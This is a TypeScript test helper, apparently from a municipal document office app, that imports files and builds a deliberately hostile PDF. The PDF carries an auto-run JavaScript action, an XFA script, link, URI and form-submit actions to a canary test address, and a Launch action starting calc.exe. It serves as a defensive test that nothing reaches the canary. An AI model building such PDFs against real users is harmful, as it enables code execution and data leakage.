import { maxSliceBytes } from '../../../src-shared/contract/content.ts';
import type { ContentRef } from '../../../src-shared/domain/document.ts';
import type { TestOffice } from './desk.ts';

/** Brings a file in through the door, as the form does, and makes a draft of it at the clerk's desk. */
export async function draftOf(o: TestOffice, title: string, fileName: string, bytes: Uint8Array): Promise<ContentRef> {
  const { importId } = await o.ask('commune-clerk', 'content.beginImport', { fileName });
  for (let at = 0; at < bytes.length; at += maxSliceBytes) await o.ask('commune-clerk', 'content.appendImport', { importId, bytes: bytes.slice(at, at + maxSliceBytes) });
  const { content } = await o.ask('commune-clerk', 'content.finishImport', { importId });
  await o.ask('commune-clerk', 'documents.draft', { title, kind: 'cong-van', notation: 'UBND-VP', urgency: 'normal', content, recipients: [], inReplyTo: null });
  return content;
}

/**
 * A PDF that tries everything: a script when it opens and in a link, an XFA form, a program to start, addresses in the world. `canary`
 * is an address that a test listens at: nothing may ever come there.
 */
export function hostilePdf(canary: string): Uint8Array {
  const text = 'BT /F 14 Tf 70 760 Td (Van ban co lien ket ra ngoai) Tj ET';
  const link = (y: number, action: string): string => `<< /Type /Annot /Subtype /Link /Rect [70 ${y} 300 ${y + 24}] /Border [0 0 1] /A ${action} >>`;
  const script = `app.launchURL("${canary}/script", true); this.submitForm("${canary}/submit"); app.alert("chay roi");`;
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"><event activity="ready"><script contentType="application/x-javascript">xfa.host.gotoURL("${canary}/xfa")</script></event></subform></template></xdp:xdp>`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> /AcroForm << /Fields [12 0 R] /XFA 7 0 R >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 5 0 R >> >> /Contents 4 0 R /Annots [8 0 R 9 0 R 10 0 R 11 0 R 12 0 R] /AA << /O 6 0 R >> >>',
    stream(text),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>',
    `<< /S /JavaScript /JS (${script.replaceAll('(', '\\(').replaceAll(')', '\\)')}) >>`,
    stream(xfa),
    link(700, `<< /S /URI /URI (${canary}/uri?a=1) >>`),
    link(660, '6 0 R'),
    link(620, '<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>'),
    link(580, `<< /S /SubmitForm /F << /FS /URL /F (${canary}/form) >> >>`),
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (o) /V (gia tri) /Rect [70 520 300 544] /DA (/F 12 Tf) /AA << /K 6 0 R /Fo 6 0 R >> >>',
  ];
  let file = '%PDF-1.7\n';
  const offsets = objects.map((body, index) => {
    const at = file.length;
    file += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return at;
  });
  const table = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')}`;
  file += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`;
  return Buffer.from(file, 'latin1');
}

function stream(body: string): string {
  return `<< /Length ${body.length} >>\nstream\n${body}\nendstream`;
}
